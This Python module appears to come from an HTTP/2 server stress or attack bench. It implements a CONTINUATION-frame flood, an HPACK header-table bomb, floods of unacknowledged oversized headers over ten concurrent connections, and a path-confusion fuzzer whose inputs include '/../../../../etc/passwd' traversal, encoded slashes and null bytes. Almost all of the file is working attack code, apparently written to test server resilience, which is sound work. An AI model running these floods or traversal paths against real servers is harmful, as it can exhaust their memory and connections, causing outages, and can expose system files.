"""Headers without an end, headers that unpack to too much, and paths that servers read differently."""

from __future__ import annotations

import asyncio

from bench.attack.door import Door
from bench.attack.frames import CONTINUATION, END_HEADERS, MAX_FRAME, frame, literal, message, request
from bench.attack.seen import Seen
from bench.attack.wire import Connection, crowd

CONNECTIONS = 10
ANSWER_SECONDS = 5.0
HELD_SECONDS = 1.0
LAST_WORDS_SECONDS = 0.5
UNACKNOWLEDGED_BYTES = 2_000_000
BOMB_BLOCKS = 20
TABLE_BYTES = 4096
ENTRY_OVERHEAD = 32
NEWEST = b"\xbe"
"""The dynamic table's newest entry, as a whole header in one byte."""


async def continuation_flood(door: Door, seen: Seen, count: int) -> None:
    """Ten connections, on each a call whose headers go on in `count` frames of 16 KiB and never end."""
    more = frame(CONTINUATION, 0, 1, _headers_of(MAX_FRAME))
    async with crowd(door.address, seen, CONNECTIONS) as connections:
        await asyncio.gather(*(_continue(each, request(door.cheap), more, count) for each in connections))


async def _continue(connection: Connection, block: bytes, more: bytes, count: int) -> None:
    connection.begin(1, block, ends=False)
    for _ in range(count):
        connection.send(more)
        if not await connection.flush():
            break
    await connection.until_ended(ANSWER_SECONDS)


def _headers_of(nbytes: int) -> bytes:
    """Whole headers of together exactly so many bytes."""
    one = literal(b"x-flood", b"a" * 100)
    count = nbytes // len(one) - 1
    rest = nbytes - count * len(one)
    # A name of 9 bytes, and four bytes around them for lengths: the value's takes two.
    return one * count + literal(b"x-filling", b"a" * (rest - 13))


async def header_bomb(door: Door, seen: Seen, count: int) -> None:
    """Ten connections, on each twenty calls whose headers name one of 4 KB `count` times, a byte each time."""
    name = b"x-bomb"
    value = b"a" * (TABLE_BYTES - ENTRY_OVERHEAD - len(name))
    stored = b"\x40" + literal(name, value)[1:]
    async with crowd(door.address, seen, CONNECTIONS) as connections:
        for connection in connections:
            for stream in range(1, 2 * BOMB_BLOCKS, 2):
                connection.begin(stream, request(door.cheap) + stored + NEWEST * count)
                await connection.flush()
        await asyncio.gather(*(each.until_ended(ANSWER_SECONDS) for each in connections))


async def unacknowledged_headers(door: Door, seen: Seen, count: int) -> None:
    """Ten connections that never acknowledge the target's settings, on each `count` calls with 2 MB of headers."""
    more = _headers_of(MAX_FRAME)
    frames = UNACKNOWLEDGED_BYTES // MAX_FRAME
    async with crowd(door.address, seen, CONNECTIONS, listens=False) as connections:
        await asyncio.gather(*(_head(each, request(door.cheap), more, frames, count) for each in connections))
        await asyncio.sleep(HELD_SECONDS)
        for connection in connections:
            connection.listen()
        await asyncio.sleep(LAST_WORDS_SECONDS)


async def _head(connection: Connection, block: bytes, more: bytes, frames: int, count: int) -> None:
    for stream in range(1, 2 * count, 2):
        connection.begin(stream, block, ends=False)
        for number in range(frames):
            connection.send(frame(CONTINUATION, END_HEADERS if number == frames - 1 else 0, stream, more))
            if not await connection.flush():
                return


async def strange_paths(door: Door, seen: Seen, count: int) -> None:
    """Every spelling of a path that a server may read as another one, `count` times, each on a connection of its
    own."""
    for _ in range(count):
        await asyncio.gather(*(_ask(door, seen, path) for path in _paths(door.cheap)))


async def _ask(door: Door, seen: Seen, path: bytes) -> None:
    async with crowd(door.address, seen, 1) as connections:
        for connection in connections:
            connection.begin_calls(range(1, 2), request(path), message(door.cheap_request))
            await connection.until_ended(ANSWER_SECONDS)


def _paths(path: str) -> list[bytes]:
    service, _, method = path.rpartition("/")
    texts = [
        *(
            f"{path}{tail}"
            for tail in ("?", "?a=b", "#", "#a", "/", "/.", "//", ";a=b", "%", "%00", "%2e", "%3F", "\\")
        ),
        *(f"{service}/{escaped}{method[1:]}" for escaped in (f"%{ord(method[0]):02x}", f"%25{ord(method[0]):02x}")),
        *(
            f"{service}{between}{method}"
            for between in ("//", "/./", "/../", "%2f", "%2F", "%5c", "\\", "/a/../", ";/")
        ),
        *(f"{before}{path}" for before in ("/", "/..", "/.", "/%2e%2e", "http://other", "*")),
        path[1:],
        path.upper(),
        "",
        "*",
        "/",
        "/" * 4000,
        "/../../../../etc/passwd",
        path + "/" + "a" * 8000,
        path + "?" + "a=b&" * 2000,
    ]
    return [text.encode() for text in texts] + [path.encode() + tail for tail in (b"\xff", b"\xc3\xa4", b"\x00", b" x")]
